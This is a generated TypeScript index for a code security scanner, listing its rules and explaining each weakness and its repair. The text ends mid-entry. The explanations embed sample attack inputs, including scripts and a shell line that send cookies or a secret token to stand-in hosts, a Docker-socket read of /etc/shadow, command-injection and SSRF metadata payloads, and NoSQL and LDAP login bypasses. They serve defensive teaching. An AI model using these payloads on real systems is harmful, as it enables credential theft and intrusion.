// Written by scripts/generate.mjs. Do not edit.
import type { Rule } from './rule';
import { rule as cleartextTransport } from './cleartext-transport/rule';
import { rule as cloudResourceUnprotected } from './cloud-resource-unprotected/rule';
import { rule as codeInjection } from './code-injection/rule';
import { rule as commandInjection } from './command-injection/rule';
import { rule as containerAsRoot } from './container-as-root/rule';
import { rule as crossSiteScripting } from './cross-site-scripting/rule';
import { rule as csrfDisabled } from './csrf-disabled/rule';
import { rule as dangerousWorkflow } from './dangerous-workflow/rule';
import { rule as debugEnabled } from './debug-enabled/rule';
import { rule as defaultCredentials } from './default-credentials/rule';
import { rule as errorDetailsExposed } from './error-details-exposed/rule';
import { rule as grantAll } from './grant-all/rule';
import { rule as hardcodedSecret } from './hardcoded-secret/rule';
import { rule as headerInjection } from './header-injection/rule';
import { rule as implicitCrossJoin } from './implicit-cross-join/rule';
import { rule as insecureCookie } from './insecure-cookie/rule';
import { rule as insecureDirectObjectReference } from './insecure-direct-object-reference/rule';
import { rule as jwtNoExpiry } from './jwt-no-expiry/rule';
import { rule as jwtUnverified } from './jwt-unverified/rule';
import { rule as ldapInjection } from './ldap-injection/rule';
import { rule as logInjection } from './log-injection/rule';
import { rule as massAssignment } from './mass-assignment/rule';
import { rule as messageOrigin } from './message-origin/rule';
import { rule as missingAuthorization } from './missing-authorization/rule';
import { rule as missingLoginThrottle } from './missing-login-throttle/rule';
import { rule as missingWhere } from './missing-where/rule';
import { rule as nosqlInjection } from './nosql-injection/rule';
import { rule as oauthMissingState } from './oauth-missing-state/rule';
import { rule as openRedirect } from './open-redirect/rule';
import { rule as pathTraversal } from './path-traversal/rule';
import { rule as permissiveCors } from './permissive-cors/rule';
import { rule as plaintextPassword } from './plaintext-password/rule';
import { rule as prototypePollution } from './prototype-pollution/rule';
import { rule as publicBind } from './public-bind/rule';
import { rule as redos } from './redos/rule';
import { rule as regexInjection } from './regex-injection/rule';
import { rule as secretInImage } from './secret-in-image/rule';
import { rule as secretInLog } from './secret-in-log/rule';
import { rule as securityHeadersMissing } from './security-headers-missing/rule';
import { rule as serverSideRequestForgery } from './server-side-request-forgery/rule';
import { rule as sessionFixation } from './session-fixation/rule';
import { rule as shortKey } from './short-key/rule';
import { rule as sqlInjection } from './sql-injection/rule';
import { rule as sqlSyntax } from './sql-syntax/rule';
import { rule as templateInjection } from './template-injection/rule';
import { rule as timingUnsafeComparison } from './timing-unsafe-comparison/rule';
import { rule as tlsVerificationDisabled } from './tls-verification-disabled/rule';
import { rule as trustBoundary } from './trust-boundary/rule';
import { rule as unpinnedImage } from './unpinned-image/rule';
import { rule as unrestrictedUpload } from './unrestricted-upload/rule';
import { rule as unsafeDeserialization } from './unsafe-deserialization/rule';
import { rule as unsafeReflection } from './unsafe-reflection/rule';
import { rule as unvalidatedInput } from './unvalidated-input/rule';
import { rule as weakCipher } from './weak-cipher/rule';
import { rule as weakHash } from './weak-hash/rule';
import { rule as weakPasswordHash } from './weak-password-hash/rule';
import { rule as weakRandom } from './weak-random/rule';
import { rule as weakWorkFactor } from './weak-work-factor/rule';
import { rule as xmlExternalEntities } from './xml-external-entities/rule';
import { rule as xpathInjection } from './xpath-injection/rule';
import { rule as zipSlip } from './zip-slip/rule';

/** Every rule, by id. */
export const rules: readonly Rule[] = [
  cleartextTransport,
  cloudResourceUnprotected,
  codeInjection,
  commandInjection,
  containerAsRoot,
  crossSiteScripting,
  csrfDisabled,
  dangerousWorkflow,
  debugEnabled,
  defaultCredentials,
  errorDetailsExposed,
  grantAll,
  hardcodedSecret,
  headerInjection,
  implicitCrossJoin,
  insecureCookie,
  insecureDirectObjectReference,
  jwtNoExpiry,
  jwtUnverified,
  ldapInjection,
  logInjection,
  massAssignment,
  messageOrigin,
  missingAuthorization,
  missingLoginThrottle,
  missingWhere,
  nosqlInjection,
  oauthMissingState,
  openRedirect,
  pathTraversal,
  permissiveCors,
  plaintextPassword,
  prototypePollution,
  publicBind,
  redos,
  regexInjection,
  secretInImage,
  secretInLog,
  securityHeadersMissing,
  serverSideRequestForgery,
  sessionFixation,
  shortKey,
  sqlInjection,
  sqlSyntax,
  templateInjection,
  timingUnsafeComparison,
  tlsVerificationDisabled,
  trustBoundary,
  unpinnedImage,
  unrestrictedUpload,
  unsafeDeserialization,
  unsafeReflection,
  unvalidatedInput,
  weakCipher,
  weakHash,
  weakPasswordHash,
  weakRandom,
  weakWorkFactor,
  xmlExternalEntities,
  xpathInjection,
  zipSlip,
];

/** Rules that repair some of what they find. */
export const rulesWithFixes: ReadonlySet<string> = new Set([
  'cleartext-transport',
  'cloud-resource-unprotected',
  'code-injection',
  'command-injection',
  'container-as-root',
  'cross-site-scripting',
  'csrf-disabled',
  'dangerous-workflow',
  'debug-enabled',
  'default-credentials',
  'error-details-exposed',
  'grant-all',
  'hardcoded-secret',
  'header-injection',
  'implicit-cross-join',
  'insecure-cookie',
  'jwt-no-expiry',
  'jwt-unverified',
  'ldap-injection',
  'log-injection',
  'mass-assignment',
  'message-origin',
  'missing-where',
  'nosql-injection',
  'oauth-missing-state',
  'open-redirect',
  'path-traversal',
  'permissive-cors',
  'plaintext-password',
  'prototype-pollution',
  'public-bind',
  'redos',
  'regex-injection',
  'secret-in-image',
  'secret-in-log',
  'security-headers-missing',
  'server-side-request-forgery',
  'session-fixation',
  'short-key',
  'sql-injection',
  'template-injection',
  'timing-unsafe-comparison',
  'tls-verification-disabled',
  'trust-boundary',
  'unrestricted-upload',
  'unsafe-deserialization',
  'unsafe-reflection',
  'weak-cipher',
  'weak-hash',
  'weak-password-hash',
  'weak-random',
  'weak-work-factor',
  'xml-external-entities',
  'xpath-injection',
  'zip-slip',
]);

/** What the rules' pages say, in Markdown: the weakness, its danger, the repair (without the examples). */
export const ruleDocs: Readonly<Record<string, { what: string; why: string; how: string }>> = {
  'cleartext-transport': {
    what: 'Data goes over the network without encryption: by HTTP, FTP, Telnet, or mail and directories without TLS.',
    why: 'Everyone on the way can read and change it: in the same wireless network, at the provider, in between.\n\nA program logs in by FTP. On the network this is seen:\n\n```text\nUSER shop\nPASS correct-horse\n```',
    how: 'Use the encrypted protocol: `https://`, SFTP or FTPS, SSH, `smtps` or STARTTLS, `ldaps://`. Make your own server redirect from HTTP to HTTPS, and send the header `Strict-Transport-Security`.\n\nIt is fine to speak HTTP on the same machine, or behind a proxy that encrypts.',
  },
  'cloud-resource-unprotected': {
    what: 'A program that describes cloud resources leaves one unencrypted, or opens it to everyone on the internet.',
    why: 'Scanners try every address and every name of a bucket, all day. What is open is found within hours:\n\n```text\naws s3 ls s3://shop-backups --no-sign-request\n```\n\nIf that works for you without a login, it works for everyone. A policy that allows everything is the second step: with one stolen key of such a role the whole account is lost.',
    how: 'Keep resources closed, which is the default, and open them for a role, a security group or a distribution of CloudFront.\n\nLeave encryption on. On buckets set `enforceSSL: true`, so that requests without TLS are refused. S3 encrypts what it stores by itself since 2023; set `encryption` when the keys should be yours.\n\nIn policies, name the actions and the resources.',
  },
  'code-injection': {
    what: 'Data from outside is run as a piece of the program, with `eval` or something like it.',
    why: 'Whoever sends the data can do everything that your program can: read its secrets, change its data, start other programs.\n\nA calculator evaluates what a visitor types. The visitor types this:\n\n```text\nprocess.exit()\n```\n\nThe server stops. Other lines would read the passwords of its database.',
    how: 'Do not run text as code. To read data, parse it: `JSON.parse`, `ast.literal_eval`. To choose what to do, look the name up in a table of functions. To calculate, use a library made for formulas.\n\nA sandbox inside the language (`vm` in Node.js, `exec` with empty globals in Python) does not protect: there are known ways out.\n\nIn Java, do not evaluate SpEL, OGNL or scripts that contain data. In Ruby, avoid `eval`, `instance_eval` and `send` with data. In PHP, avoid `eval`, `assert` with text, and `call_user_func` with a name from outside.',
  },
  'command-injection': {
    what: 'Data from outside becomes part of a command line that a shell reads, or it names the program to start. A shell gives many characters a meaning: `;`, `|`, `&`, `$` and line breaks. In Java, a native library that such data names (`System.load`) counts too: its code runs at once.',
    why: 'Whoever sends the data can run any program on the server, with all rights of yours.\n\nA page pings the host that a visitor names. The visitor sends this:\n\n```text\nexample.org; cat /etc/passwd\n```\n\nThe shell runs `ping example.org`, and then prints the list of users.\n\nA command with a part that nobody can know from the code, such as `convert #{path}` in Ruby, is a hint. So is one that is opened as a file: in Ruby, `open` runs a text that begins with `|`.',
    how: 'Start the program without a shell, and give it each argument on its own: then no character has a special meaning. Check the value too, because an argument that begins with `-` can still be an option; put `--` before it where the program knows that.\n\nOften a library can do it without any program: resize a picture, read an archive, resolve a name.\n\nIn Java, use `ProcessBuilder` with one element for each argument, and no `sh -c`. In Ruby, use `system(\'ping\', host)` with several arguments, never backquotes. In PHP, wrap each argument in `escapeshellarg`.',
  },
  'container-as-root': {
    what: 'The program in a container runs as root, or the container gets rights that are as good as root on the host: `privileged`, a powerful capability, or the Docker socket.',
    why: 'A container is a thin wall. A program without rights behind it can do little after a break-in. Root can change every file of the image, listen to the network, and use any hole in the kernel or the settings to reach the host. With the Docker socket no hole is needed:\n\n```text\ndocker -H unix:///var/run/docker.sock run -v /:/host alpine cat /host/etc/shadow\n```',
    how: 'Create a user in the image and switch to it with `USER` before the program starts. Many images bring one: `node` in the Node image, `nobody` everywhere. In a compose file remove `privileged: true` and name the single right that is needed with `cap_add`.\n\nA port below 1024 is no reason for root: let the program listen on 8080 and publish it as 80.',
  },
  'cross-site-scripting': {
    what: 'Data from outside becomes part of a page without being escaped. The browser cannot tell which tags you wrote and which came with the data.',
    why: 'Whoever makes a visitor open a link, or writes something that others read, can run a script in their browsers: act in their name, read what they see.\n\nA search page repeats what was searched for. A link contains this:\n\n```text\n<script>fetch(\'https://evil.example/\' + document.cookie)</script>\n```\n\nThe browser of everyone who opens the link runs it.\n\nIn Ruby, the field of a record that is marked with `html_safe` or `raw` is a hint: who wrote it is not known.',
    how: 'Let a template put the data in, one that escapes: `<`, `>`, `&` and quotes become harmless. Do not switch the escaping off for data. If you build a page or a mail by hand, escape each value.\n\nEscaping for HTML does not help inside a script, in a style, or in an address that begins with `javascript:`. Give data to scripts as JSON in an attribute. For text that may contain some tags, use a sanitizer such as DOMPurify.\n\nIn Java, use Thymeleaf’s `th:text` (not `th:utext`), JSTL’s `c:out`, or the OWASP Java Encoder. In Ruby on Rails, do not call `html_safe` or `raw` on data. In PHP, use `htmlspecialchars`; in Blade `{{ }}` and not `{!! !!}`.\n\nTags belong into the template, too. A text with tags around data that goes to a template is shown as plain text there; whoever then marks it as safe lets every script in it through.',
  },
  'csrf-disabled': {
    what: 'The framework\'s protection against cross-site request forgery (CSRF) is turned off, for a view or for everything. Or a check says that a request is forged, and the program does not look at what it says.',
    why: 'Browsers send cookies along with every request, also with one that another website starts. A page anywhere can hold this form, and the visitor who opens it has sent money:\n\n```text\n<form action="https://bank.example/transfer" method="post">\n<input name="to" value="attacker"><script>document.forms[0].submit()</script>\n```',
    how: 'Leave the protection on and put the token into your forms. A program that logs in only with a token in the `Authorization` header does not need it: suppress the finding with that reason. In Spring Security leave out `csrf().disable()`, in Rails keep `protect_from_forgery`, in Laravel keep routes out of `$except`, in Symfony leave `csrf_protection` on.\n\nIn Express, `method-override` stands in front of the protection: else a forged GET passes, and becomes a POST afterwards.',
  },
  'dangerous-workflow': {
    what: 'A GitHub workflow pastes text into a script that anyone can choose, such as the title of an issue. Or it fetches the code of a stranger’s pull request while it has the secrets of the repository. Or it gets more rights than it needs.',
    why: 'GitHub fills in `${{ }}` before the shell sees the script. So the text becomes part of the program. A stranger opens an issue with this title, and your runner runs it:\n\n```text\n"; curl -d "$SECRET_TOKEN" https://evil.example; echo "\n```\n\nWith `pull_request_target`, `issue_comment` and some other events the run has your secrets and may write to the repository. A pull request that changes `package.json` or a test then is a program with those rights.',
    how: 'Put such a value into `env:` and use it as a variable, in quotes: a variable is data for the shell. Build and test pull requests with the event `pull_request`, which has no secrets for strangers. Give each workflow the few rights that it needs with `permissions`.',
  },
  'debug-enabled': {
    what: 'The framework\'s debug mode is turned on in the code.',
    why: 'Debug mode is made for you and shows everything: source code, settings, variables. Flask\'s even has a console in the page that runs what is typed into it:\n\n```text\n>>> import os; os.environ\n```',
    how: 'Take the value from the environment, and let it be off unless somebody turns it on. In Spring leave `debug=true` and `server.error.include-stacktrace=always` out of the settings for production, in Rails keep `consider_all_requests_local` false, in Laravel set `APP_DEBUG=false`, in plain PHP `display_errors=0`.',
  },
  'default-credentials': {
    what: 'A program logs in to a database or another service with a password that everyone knows, such as `admin` or `postgres`, or with none.',
    why: 'Programs scan the internet for such services day and night, and try these first:\n\n```text\npostgres / postgres   root / (empty)   admin / admin\n```',
    how: 'Give the service a random password, and read it from the environment, in every language.',
  },
  'error-details-exposed': {
    what: 'An answer contains what an exception says: its text, or even the stack trace.',
    why: 'Errors name files, tables, versions and addresses of your server. Each helps an attacker to find the next step.\n\nA page is asked for an article with a quote in its id. The answer is this:\n\n```text\nError: near "\'": syntax error in SELECT * FROM articles WHERE id = \'\n    at /srv/shop/src/db.js:41\n```\n\nIt says that the id reaches an SQL statement, and which database and which files there are.',
    how: 'Write the error to the log, and send a short text of your own. Give both a number, so that you find the entry when somebody reports it. Show details only while you develop.\n\nIn Java, turn `server.error.include-stacktrace` and `include-message` off (the default of Spring Boot), and do not print a trace into the response. In Ruby on Rails, keep `consider_all_requests_local` off in production. In PHP, set `display_errors = Off`.',
  },
  'grant-all': {
    what: '`GRANT ALL` gives a database login every right there is, or a right to change data goes to `PUBLIC`, which is every login.',
    why: 'A program that only reads and writes rows does not need to drop tables. If somebody breaks into it, its rights are theirs:\n\n```text\nDROP TABLE orders;\n```',
    how: 'Grant what the program needs, table by table. Give rights to a role and the role to logins.',
  },
  'hardcoded-secret': {
    what: 'A key, a token, a password or an address with a password stands in the source code.',
    why: 'Code is copied: to colleagues, to build servers, to GitHub. What was committed once stays in the history, even after you delete the line. Programs search public repositories for keys, and find new ones within minutes:\n\n```text\ngit log -p | grep -E \'AKIA|sk_live_|BEGIN RSA PRIVATE KEY\'\n```\n\nWith the key that signs your sessions or tokens, anyone can be anyone.',
    how: 'Read secrets from the environment or from a secret store, in every language. Then replace the secret: the old one is no longer secret.',
  },
  'header-injection': {
    what: 'Data from outside becomes the name of a response header, or it goes into a header in a server that lets line breaks through. A line break ends a header. The value of a cookie is a part of a header too.',
    why: 'Whoever makes a visitor open a link with such data can set cookies in the visitor’s browser, or switch off protections.\n\nThe request names the header. A link contains this:\n\n```text\n?name=Set-Cookie&value=session=known\n```\n\nThe visitor’s browser now has a session that the attacker knows.',
    how: 'Write the names of headers yourself. Remove line breaks from values, or encode them: `encodeURIComponent`, `quote`.\n\nNode.js, Django, Flask, Starlette and PHP refuse a value with a line break, so there the request fails. In Java and Ruby it depends on the server: check the value yourself.',
  },
  'implicit-cross-join': {
    what: 'A query names two tables, and no condition says which rows of the one belong to which rows of the other.',
    why: 'The database then pairs every row with every row. With 1,000 users and 1,000 orders the answer has this many rows:\n\n```text\n1,000,000\n```',
    how: 'Write `JOIN … ON` with the columns that match. If you do want every pair, write `CROSS JOIN`, and everyone can see that you mean it.',
  },
  'insecure-cookie': {
    what: 'A cookie is set without `Secure`, without `HttpOnly`, or with `SameSite=None`.',
    why: 'The cookie of a session is as good as the password: whoever has it is logged in. The three flags close three ways to it.\n\nWithout `Secure` the browser sends it over plain HTTP too, where anyone on the way reads it. Without `HttpOnly` a script in the page can take it:\n\n```text\nfetch(\'https://attacker.example/?\' + document.cookie)\n```\n\nWith `SameSite=None` the browser sends it along with requests that other websites start.',
    how: 'Set all three: `Secure`, `HttpOnly`, and `SameSite=Lax` or `Strict`. Frameworks have a setting for their session cookie. In Java call `setSecure(true)` and `setHttpOnly(true)`, in PHP pass the options array to `setcookie`, in Rails pass `secure: true, httponly: true, same_site: :lax`.',
  },
  'insecure-direct-object-reference': {
    what: 'A request names a record by its id, and nothing checks that the record belongs to the visitor.',
    why: 'Ids are easy to guess. A visitor who sees the first address tries the second:\n\n```text\nhttps://shop.example/orders/1041\nhttps://shop.example/orders/1040\n```',
    how: 'Look the record up together with its owner, or compare the owner afterwards. Answer 404 when it is somebody else\'s. If the records belong to everyone, suppress the hint with that reason. In Rails write `current_user.orders.find(params[:id])`, in Laravel use a policy, in Spring add the owner to the repository\'s method.',
  },
  'jwt-no-expiry': {
    what: 'A token is issued without a time at which it ends.',
    why: 'Your server cannot take such a token back. If it leaks, through a log, a stolen phone or a script in the page, it opens the account for ever:\n\n```text\n{"sub":"7","iat":1577836800}     issued in 2020, valid today\n```',
    how: 'Give tokens a short life, such as 15 minutes, and a second, longer one to renew them that your server can refuse. In Java call `expiration(…)` (JJWT) or `withExpiresAt(…)`, in Ruby and PHP put `exp` into the payload.',
  },
  'jwt-unverified': {
    what: 'A JSON Web Token is read without checking its signature, or the algorithm `none` is allowed, which means no signature. A token that is issued without a signature is the other side of it.',
    why: 'The signature is all that ties a token to your server. The rest is text that anyone can write:\n\n```text\n{"alg":"none"}\n{"sub":"admin","role":"owner"}\n```',
    how: 'Verify the token with your key before you believe a word of it, and name the algorithm that you sign with. In Java call `parseSignedClaims` (JJWT) or `JWT.require(…).build().verify(…)`, in Ruby `JWT.decode(token, key, true, algorithm: \'HS256\')`, in PHP `JWT::decode($token, new Key($key, \'HS256\'))`.',
  },
  'ldap-injection': {
    what: 'Data from outside becomes part of the filter, or of the name, of an LDAP search. Parentheses, `*`, `|` and `&` have a meaning there.\n\nIn Java, a search can also give entries back as objects (`SearchControls` with `returningObjFlag`). Then the one who wrote an entry chooses a class that your program loads.',
    why: 'Whoever sends the data can change what is searched: log in as someone else, or list all people of a directory.\n\nA login searches for the name and the password. A visitor sends this name:\n\n```text\nadmin)(|(uid=*\n```\n\nThe filter now holds for every entry, whatever the password is.',
    how: 'Escape each value with the function that your LDAP library has for filters; names (DNs) need another one than filters. Better still, check a login by binding with the name and the password, not by searching for a password.\n\nIn JavaScript, build the filter from objects (`new ldap.EqualityFilter(…)`). In Java, use `LdapEncoder.filterEncode` of Spring LDAP, or the search with arguments (`{0}`) of JNDI. In Ruby, use `Net::LDAP::Filter.eq`, which escapes. In PHP, use `ldap_escape` with `LDAP_ESCAPE_FILTER`.',
  },
  'log-injection': {
    what: 'Data from outside goes into a log as it is. A log is text, one line for each entry, and the data can hold line breaks.',
    why: 'Whoever sends the data can write entries that look like yours, and so hide what happened.\n\nA program logs failed logins with the name. A visitor sends this name:\n\n```text\nmia\\nINFO Login of admin succeeded\n```\n\nThe log shows a login that never was.',
    how: 'Log data as fields of JSON, where a line break is written as `\\n` (most logging libraries can do that), or remove line breaks before you log.\n\nIn Java, use `%replace` or `%encode` in the pattern of Logback or Log4j. In Ruby and PHP, log the value with `inspect` or `json_encode`.',
  },
  'mass-assignment': {
    what: 'All fields of a request go into a record at once, without a list of those that may be set.',
    why: 'The sender decides which fields there are. Your form has two; the attacker sends a third:\n\n```text\n{"name": "Mallory", "email": "m@example.com", "isAdmin": true}\n```',
    how: 'Pick the fields by name. In Rails use `params.require(:user).permit(:name, :email)`, in Laravel `$request->validated()` with a `$fillable` list, in Spring bind to a class that has only the fields of the form, in Symfony a form type.',
  },
  'message-origin': {
    what: 'A page takes messages from other windows without looking at who sent them, or sends messages that any page may read.',
    why: '`postMessage` crosses the border between websites on purpose. Every site can open your page in a frame or a new window, and then send it messages:\n\n```text\nconst yours = window.open(\'https://shop.example/\');\nyours.postMessage({ action: \'setEmail\', email: \'attacker@evil.example\' }, \'*\');\n```\n\nIf your page does what the message says, the attacker acts as the visitor. The other way round, a message with the target `*` is delivered to whatever page is in that window. If the visitor has gone elsewhere by then, a stranger reads it.',
    how: 'When you receive, compare `event.origin` with the whole address of the sender before you use `event.data`. Do not test only a part of it: `https://shop.example.evil.net` contains `shop.example`.\n\nWhen you send, name the origin of the page that the message is for.',
  },
  'missing-authorization': {
    what: 'A route creates, changes or deletes data, and nothing in sight checks who is asking.',
    why: 'Whoever finds the address can call it. No login page stands in the way:\n\n```text\ncurl -X DELETE https://shop.example/products/7\n```',
    how: 'Check in front of the handler that the visitor is logged in, and in it that this visitor may change this record. If a proxy or another file does that already, suppress the hint with that reason. In Spring use `@PreAuthorize` or a `SecurityFilterChain`, in Rails a `before_action`, in Laravel the `auth` middleware, in Symfony `#[IsGranted]`.',
  },
  'missing-login-throttle': {
    what: 'A route takes passwords or codes, and nothing limits how often somebody may try.',
    why: 'A program tries passwords far faster than a person. Lists of leaked logins from other websites are tried one after the other:\n\n```text\nPOST /login  ada@example.com  123456\nPOST /login  ada@example.com  password\n```',
    how: 'Count the failed attempts for each account and for each address, and make the next one wait. If a proxy or another file does that already, suppress this hint with that reason. Libraries: `express-rate-limit`, Flask-Limiter, `django-axes`, Bucket4j in Java, `rack-attack` in Ruby, Laravel\'s `throttle` middleware and Symfony\'s login throttling.',
  },
  'missing-where': {
    what: 'A `DELETE` or `UPDATE` statement has no `WHERE` clause, so it applies to every row of the table.',
    why: 'There is no undo. One run empties the table, or gives every row the same value.',
    how: 'Add a `WHERE` clause that names the rows. Try it as a `SELECT` first and look at what comes back. If you mean every row, say so: suppress the finding with that reason, or use `TRUNCATE` to empty a table.',
  },
  'nosql-injection': {
    what: 'A query of MongoDB is an object, and data from the request becomes a part of it. JSON bodies and many query strings can carry objects, so where you expect text, a visitor can send operators. The same happens where the text of a query is put together, as for `Document.parse` in Java.',
    why: 'Whoever sends the data can change what the query matches, for example so that every password is right.\n\nA login looks a user up by name and password. A visitor sends this as the body:\n\n```text\n{"name": "admin", "password": {"$ne": null}}\n```\n\nThe query asks for a user named admin whose password is *not equal to nothing*, and it finds one. With `$where`, the data even runs as JavaScript in the database.',
    how: 'Make sure that each value is text or a number before it goes into a query: convert it, or check the request against a schema. Name the fields of a query yourself, and never pass a whole body on as a query. Do not use `$where`.\n\nWrapping a value as `{ $eq: value }` works as well: then it is only compared, and a number stays a number.\n\nIn PHP, `$_GET[\'name\']` can be an array when the address says `name[$ne]=`; cast it with `(string)`. In Ruby on Rails, `params[:name]` can be a hash; call `to_s` on it. In Java, build the filter from a `String`, not from parsed JSON.',
  },
  'oauth-missing-state': {
    what: 'A login at another service (OAuth) starts without the parameter `state`.',
    why: 'The service sends the visitor back to your address with a code. Without `state` your server cannot tell whether this browser has asked for it. An attacker sends the victim a link with the attacker\'s own code:\n\n```text\nhttps://shop.example/callback?code=CODE_OF_THE_ATTACKER\n```\n\nThe victim is now logged in as the attacker, and what the victim types in, an address or a card, ends up in the attacker\'s account.',
    how: 'Send a random `state`, keep it in the session, and refuse the answer when it is another one. Libraries do that when you let them: leave it on in Passport, Authlib, Spring Security, OmniAuth and Socialite.',
  },
  'open-redirect': {
    what: 'The request says where the browser is sent next, and the address may be that of another site.',
    why: 'A link that begins with your site’s name leads somewhere else. People trust the name, and type their password into the copy that they land on.\n\nAfter the login, the visitor is sent to the address in `next`. A link in an e-mail looks like this:\n\n```text\nhttps://shop.example/login?next=https://sh0p.example/login\n```\n\nThe login succeeds, and then a page that looks the same says that the password was wrong.\n\nIn PHP, an address in a variable of which nothing is known is a hint: look where it comes from.',
    how: 'Redirect to paths that you write, or look the address up in a list. If any path of your own site may come from the request, check it: it begins with one `/` and not with `//` or `/\\`. Better, parse the address and compare its host with yours.\n\nIn Java, return `redirect:` with a fixed path. In Ruby on Rails, `redirect_to` takes `allow_other_host: false`, which is the default of newer applications. In PHP, check the address before `header(\'Location: …\')`.',
  },
  'path-traversal': {
    what: 'Data from outside becomes part of a path. The two dots of `../` lead out of the folder that you mean, and an absolute path leaves it altogether.',
    why: 'Whoever sends the data can read, overwrite or delete any file that your program may touch: its settings, its keys, its code.\n\nA page sends a picture by its name. A visitor asks for this one:\n\n```text\n../../../etc/passwd\n```\n\nThe path `pictures/../../../etc/passwd` is the list of users.\n\nIn PHP pages and plugins without a namespace, a file that any variable names is a hint, also without data from outside in sight. So is a template that the request chooses by a part of its name.',
    how: 'Take only the last part of the name (`path.basename`), or give files names of your own and look them up. If the data may name folders too, make the finished path absolute and check that it lies in your folder; compare with the folder’s path *and* a slash behind it.\n\nMany frameworks have a function that sends a file from one folder only: `res.sendFile` with `root`, `send_from_directory`.\n\nIn Java, use `Path.normalize` and `startsWith`, or `FilenameUtils.getName`. In Ruby, use `File.basename`. In PHP, use `basename`, or `realpath` and a check of its beginning; never `include` a path with data in it.',
  },
  'permissive-cors': {
    what: 'The server tells browsers that any website may read its answers: with the origin `*`, by sending back whatever origin the request names, or with the origin `null`.',
    why: 'A browser keeps the pages of one site away from the answers of another. CORS headers open that door, here for every website.\n\nWith credentials, a page at another address even acts as the visitor who is logged in to yours:\n\n```text\nfetch(\'https://your-bank.example/account\', { credentials: \'include\' })\n```\n\nA public service without login may send `*` on purpose. Then suppress the finding and give that reason.',
    how: 'Allow the origins that you know, from a list.',
  },
  'plaintext-password': {
    what: 'A password is stored as the user typed it, or compared with a stored text.',
    why: 'Databases leak: through a backup, a bug, or a curious colleague. People use one password in many places, so a leaked password opens their mail as well:\n\n```text\nemail                password\nada@example.com      correct horse battery\n```',
    how: 'Store a hash made for passwords: bcrypt, scrypt or Argon2. They are slow on purpose, and they mix in a random salt, so two users with the same password get different hashes. At login let the library compare the typed password with the stored hash.',
  },
  'prototype-pollution': {
    what: 'Keys from a request are used to write into an object, by a deep merge or as `object[a][b] = value`.',
    why: 'In JavaScript almost every object inherits from one shared prototype, which is reached by the key `__proto__`. A request can write there:\n\n```text\n{"__proto__": {"isAdmin": true}}\n```\n\nFrom then on `user.isAdmin` is true for every object that has no such field of its own.',
    how: 'Copy the fields that you know by name. Where keys have to be free, use a `Map`, or an object made with `Object.create(null)`, or refuse `__proto__`, `constructor` and `prototype`. The other languages of this tool have no such prototype.',
  },
  'public-bind': {
    what: 'A server listens on `0.0.0.0` (or `::`), which means every network address of the machine.',
    why: 'Everyone in the same network can reach it: in a café, in the office, and on a server without a firewall the whole internet.\n\n```text\ncurl http://192.168.0.17:5000/admin\n```',
    how: 'During development listen on `127.0.0.1`. In a container `0.0.0.0` is needed and right: there the published ports decide; suppress the hint with that reason. That holds for every language.',
  },
  'redos': {
    what: 'A pattern has a repetition inside a repetition, or two ways to read the same text in a loop. When the text does not match, the engine tries all combinations: with each further character twice as many.',
    why: 'One short text keeps the server busy, and nobody else gets an answer.\n\nA form checks an address with `^(\\w+\\s?)*$`. A visitor sends this:\n\n```text\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\n```\n\nThere are more than a million million ways to cut forty letters into words, and the engine tries each.',
    how: 'Write the pattern so that each text can be read in one way only. Let a separator be needed between two repetitions: `^\\w+(\\s\\w+)*$`. Limit the length of the text before you match it. Often two small checks are clearer than one big pattern.\n\nJava and PHP have possessive repetitions (`\\w++`) and Ruby atomic groups (`(?>…)`), which never try again; Python has both since 3.11.',
  },
  'regex-injection': {
    what: 'Data from outside is compiled as a regular expression.',
    why: 'Whoever sends the data chooses the pattern, and some patterns take hours on a short text.\n\nA search compiles what a visitor types. The visitor types this:\n\n```text\n(a+)+$\n```\n\nMatched against a text with thirty times the letter a and then an exclamation mark, it keeps the server busy and nobody else gets an answer. A pattern can also match more than you mean.',
    how: 'Search for plain text: `includes`, `in`, `contains`. If you need the data inside a pattern, escape it first, so that each character stands for itself. If visitors may write patterns, use an engine that takes linear time, such as RE2.\n\nJava escapes with `Pattern.quote`, Ruby with `Regexp.escape`, PHP with `preg_quote`.',
  },
  'secret-in-image': {
    what: 'A Dockerfile writes a password, key or token into the image: as `ENV` or `ARG`, by copying a file such as `.env`, or in a command.',
    why: 'An image is copied to registries, servers and laptops. Each layer keeps what was in it, even when a later step deletes the file. Whoever can pull the image reads it:\n\n```text\ndocker history --no-trunc your-image\ndocker inspect your-image --format \'{{.Config.Env}}\'\n```',
    how: 'Give secrets to the container when it starts: from the environment of the platform, or from a secret store. For a secret that only the build needs, use `RUN --mount=type=secret`, which leaves nothing behind. List `.env` and keys in `.dockerignore`. A secret that was in an image is known: change it.',
  },
  'secret-in-log': {
    what: 'A password, a key or a token is written to a log or to the console.\n\nIn Python, an entry that says itself that a secret follows (`\'password: %s\'`) is pointed out too, whatever the variable is called.',
    why: 'Logs live long. They are copied to other machines, kept in backups, and read by people and programs that have no business with passwords. One line is enough:\n\n```text\nlogin failed: ada@example.com correct-horse\n```',
    how: 'Log what happened and to whom, but not the secret. Where you have to tell two keys apart, log the last four characters. Many loggers can leave out fields by name, in every language: `redact` of pino, a filter for Python\'s `logging`, `filter_parameters` in Rails.',
  },
  'security-headers-missing': {
    what: 'The application answers without the headers that tell browsers to be careful: `Content-Security-Policy`, `Strict-Transport-Security`, `X-Content-Type-Options` and others.',
    why: 'They are a second line of defence. When a hole lets a script into a page, a content security policy still stops it from running or from calling home:\n\n```text\nRefused to load https://attacker.example/x.js: it violates the Content Security Policy\n```',
    how: 'Add the middleware that sets them with good defaults, and then write a content security policy for your pages. If a proxy sets them, suppress the hint with that reason. Spring Security and Rails set most of them by default; in Laravel and Symfony add a middleware or the NelmioSecurityBundle.',
  },
  'server-side-request-forgery': {
    what: 'The server sends a request, and data from outside says where. The server stands inside your network, and reaches what a visitor cannot.',
    why: 'Whoever sends the data can use your server to read from inner services, databases and the settings of the cloud.\n\nA page shows the preview of a link. A visitor sends this link:\n\n```text\nhttp://169.254.169.254/latest/meta-data/iam/security-credentials/\n```\n\nIn many clouds the answer is the server’s own keys.\n\nIn PHP pages and plugins without a namespace, an address in a variable of which nothing is known is a hint.',
    how: 'Write the host yourself, or choose it from a list, and let the data be only a part of the path or of the query. If visitors may name any site, resolve the name, refuse addresses of your own network, and do not follow redirects without the same check. Let such requests go through a proxy that can reach the outside only.\n\nThis holds for every language and every HTTP library.',
  },
  'session-fixation': {
